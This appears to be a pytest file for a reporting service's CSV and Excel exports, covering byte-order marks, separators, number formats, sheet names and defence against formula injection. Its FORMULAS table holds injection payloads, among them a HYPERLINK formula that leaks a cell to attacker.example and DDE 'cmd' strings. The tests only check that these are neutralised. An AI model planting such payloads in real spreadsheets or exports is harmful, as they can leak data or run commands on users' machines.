"""Reporting's tables as agency staff open them, in process: CSV with a byte-order mark and `;` on request, XLSX for
every period form read back by a reader other than the writer, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import secrets
from datetime import date
from typing import Any

import httpx
import openpyxl
import pytest

from services.reporting.read.tables import sheet_name
from shared import units
from shared.events import Event
from tests.api.conftest import Api
from tests.builders import a_subject, an_admission, an_event

PROVINCE = "92"  # Cần Thơ: the other reporting tests count elsewhere
BOM = b"\xef\xbb\xbf"
#: A plan's title as an attacker would write it, one per way a spreadsheet starts a formula.
FORMULAS = {
    "admissions.compulsory": '=HYPERLINK("http://attacker.example/?leak="&A1,"Kế hoạch")',
    "admissions.voluntary_facility": "+cmd|' /C calc'!A0",
    "admissions.voluntary_community": "-2+3",
    "admissions.methadone": "@SUM(1+1)*cmd|' /C calc'!A0",
    "admissions.temporary_stay": "\t=1+1",
    "admissions.status_determination": "\r=1+1",
}
CSV_READS = [
    ("/v1/indicators", {"period": "2016/2020"}),
    ("/v1/indicators/admissions.compulsory", {"period": "2016/2020"}),
    ("/v1/indicators/admissions.compulsory/units", {"period": "2016/2020"}),
    ("/v1/census", {"on": "2018-06-30"}),
    ("/v1/discharges", {"period": "2018"}),
]


def a_ward() -> str:
    return secrets.choice(units.wards_of(PROVINCE))


def admitted(ward: str, modality: str, on: date) -> Event:
    residential = modality != "voluntary_community"
    data = an_admission(
        modality=modality,
        admitted_on=on,
        unit=ward,
        facility_id="ct-cs1" if residential else None,
        legal_basis="Quyết định 7/QĐ-TA" if modality == "compulsory" else None,
    )
    return an_event(data, a_subject())


async def counted(reporting: Api) -> str:
    """A ward of its own with admissions in 2018 (3 compulsory, 2 community), 3 in 2023-H2 and 1 in 2024-H1."""
    ward = a_ward()
    await reporting.consume_into_views(
        *[admitted(ward, "compulsory", date(2018, 3, d)) for d in (1, 2, 3)],
        *[admitted(ward, "voluntary_community", date(2018, 4, d)) for d in (1, 2)],
        *[admitted(ward, "compulsory", date(2023, 9, d)) for d in (1, 2, 3)],
        admitted(ward, "compulsory", date(2024, 2, 1)),
    )
    return ward


async def read(reporting: Api, path: str, **params: Any) -> httpx.Response:
    answer = await reporting.client.get(path, params=params, headers=reporting.as_operator())
    assert answer.status_code == 200, (path, params, answer.text)
    return answer


async def set_target(reporting: Api, **target: Any) -> None:
    answer = await reporting.client.put("/v1/targets", json=target, headers=reporting.as_operator())
    assert answer.status_code in (200, 201), answer.text


def as_stored(value: dict[str, Any]) -> Any:
    """A JSON indicator's value as a workbook holds it: a rate as a fraction under a % format."""
    if value["value"] is None or value["counts"] != "percent":
        return value["value"]
    return value["value"] / 100


def rows(answer: httpx.Response, sep: str = ",") -> list[list[str]]:
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(BOM)
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=sep))


async def test_every_csv_answer_starts_with_a_bom_and_is_split_by_semicolons_on_request(reporting: Api) -> None:
    ward = await counted(reporting)
    for path, params in CSV_READS:
        unit = PROVINCE if path.endswith("/units") else ward
        by_comma = rows(await read(reporting, path, unit=unit, format="csv", lang="vi", **params))
        semicolons = await read(reporting, path, unit=unit, format="csv", lang="vi", sep="semicolon", **params)
        by_semicolon = rows(semicolons, sep=";")

        assert by_semicolon == by_comma, path
        assert len(by_comma[0]) > 3 and semicolons.text.splitlines()[0] == "\ufeff" + ";".join(by_comma[0]), path


async def test_a_separator_other_than_comma_or_semicolon_is_refused(reporting: Api) -> None:
    answer = await reporting.client.get(
        "/v1/indicators",
        params={"unit": PROVINCE, "period": "2024", "format": "csv", "sep": "tab"},
        headers=reporting.as_operator(),
    )

    assert answer.status_code == 422
    assert [e["loc"] for e in answer.json()["detail"]] == [["query", "sep"]]


async def test_a_csv_text_cell_that_would_start_a_formula_is_written_with_a_leading_quote(reporting: Api) -> None:
    ward = await counted(reporting)
    for indicator_id, document in FORMULAS.items():
        await set_target(
            reporting, indicator_id=indicator_id, unit=ward, period="2024-H1", value=5, source_document=document
        )

    header, *table = rows(await read(reporting, "/v1/indicators", unit=ward, period="2024-H1", format="csv"))
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in table}

    assert {i: by_id[i]["source_document"] for i in FORMULAS} == {i: "'" + d for i, d in FORMULAS.items()}
    compulsory = by_id["admissions.compulsory"]
    assert (compulsory["value"], compulsory["previous_value"], compulsory["change"]) == ("1", "3", "-2")  # numbers
    assert by_id["admissions.total"]["change"] == "-2"


@pytest.mark.parametrize("period", ["2016/2020", "2024-H1", "2016-01/2020-09", "2018-Q1", "2018-03"])
async def test_the_excel_download_opens_for_every_period_form_with_numbers_as_numbers(
    reporting: Api, period: str
) -> None:
    ward = await counted(reporting)
    await set_target(
        reporting, indicator_id="admissions.compulsory", unit=ward, period=period, value=1801, source_document="=1+1"
    )
    expected = {
        v["indicator_id"]: v
        for v in (await read(reporting, "/v1/indicators", unit=ward, period=period)).json()["indicators"]
    }

    answer = await read(reporting, "/v1/indicators", unit=ward, period=period, format="xlsx", lang="vi")

    assert answer.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert (
        answer.headers["content-disposition"]
        == f'attachment; filename="hoinhap-{ward}-{period.replace("/", "_")}.xlsx"'
    )
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    [sheet] = book.worksheets
    assert sheet.title == sheet_name(f"hoinhap-{ward}-{period}")
    header, *cells = list(sheet.iter_rows())
    column = {c.value: i for i, c in enumerate(header)}
    by_id = {r[0].value: r for r in cells}
    compulsory = by_id["admissions.compulsory"]
    value, target, pct = (compulsory[column[h]] for h in ("Kết quả thực hiện", "Chỉ tiêu kế hoạch", "Tỷ lệ đạt (%)"))
    assert (value.value, value.number_format) == (expected["admissions.compulsory"]["value"], "#,##0")
    assert (target.value, target.number_format) == (1801, "#,##0")
    assert pct.number_format == "0.00%"
    assert pct.value == pytest.approx(expected["admissions.compulsory"]["achievement_pct"] / 100)
    change = compulsory[column["Tăng (+) / giảm (-)"]]
    assert change.value == expected["admissions.compulsory"]["change"] and change.data_type == "n"
    document = compulsory[column["Văn bản giao chỉ tiêu"]]
    assert (document.value, document.data_type, document.quotePrefix) == ("=1+1", "s", True)  # text, never run
    assert all(c.data_type != "f" for r in cells for c in r)
    as_shown = {i: r[column["Kết quả thực hiện"]].value for i, r in by_id.items()}
    assert as_shown == {i: pytest.approx(as_stored(v)) for i, v in expected.items()}


async def test_a_rate_in_the_workbook_is_a_percentage(reporting: Api) -> None:
    ward = await counted(reporting)
    expected = (await read(reporting, "/v1/indicators/admissions.voluntary_share_pct", unit=ward, period="2018")).json()

    answer = await read(reporting, "/v1/indicators", unit=ward, period="2018", format="xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets[0]
    header, *cells = list(sheet.iter_rows())
    column = {c.value: i for i, c in enumerate(header)}
    [share] = [r for r in cells if r[0].value == "admissions.voluntary_share_pct"]
    assert expected["value"] == 40.0
    assert (share[column["value"]].value, share[column["value"]].number_format) == (pytest.approx(0.4), "0.00%")


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("hoinhap-46-2016/2020", "hoinhap-46-2016_2020"),
        ("hoinhap-26734-2016-01/2020-09", "hoinhap-26734-2016-01_2020-09"),
        ("a[b]c:d*e?f/g\\h", "a_b_c_d_e_f_g_h"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("///", "___"),
        ("''", "hoinhap"),
    ],
)
def test_a_sheet_name_is_one_excel_takes(title: str, name: str) -> None:
    assert sheet_name(title) == name
